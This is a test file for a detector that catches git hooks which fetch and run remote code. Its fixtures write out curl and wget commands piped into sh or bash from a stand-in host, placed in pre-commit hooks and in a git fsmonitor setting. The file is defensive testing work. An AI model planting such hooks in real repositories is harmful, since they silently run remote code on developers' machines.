import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-hook-fetches.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  [
    'a hook by system',
    {
      '.githooks/pre-commit':
        '#!/bin/sh\n# Formats.\ncase "$(uname)" in\n  Darwin) curl -s https://a.invalid/mac | sh >/dev/null 2>&1 ;;\n  *) wget -qO- https://a.invalid/linux | sh ;;\nesac\n',
    },
    ['decisive 14 .githooks/pre-commit:4:43'],
  ],
  [
    'husky',
    { '.husky/pre-commit': 'npx lint-staged\nwget -qO- https://a.invalid/x | bash\n' },
    ['decisive 14 .husky/pre-commit:2:33'],
  ],
  ['a setting of git', { '.git/config': '[core]\n\tfsmonitor = "curl -s https://a.invalid | sh"\n' }, []],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  [
    'husky and lint-staged',
    {
      '.husky/pre-commit': '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\nnpx lint-staged\n',
      'package.json': '{"lint-staged": {"*.js": "eslint --fix"}}',
    },
    [],
  ],
  ['a sample of git', { '.git/hooks/pre-push.sample': '#!/bin/sh\ncurl https://a.invalid | sh\n' }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
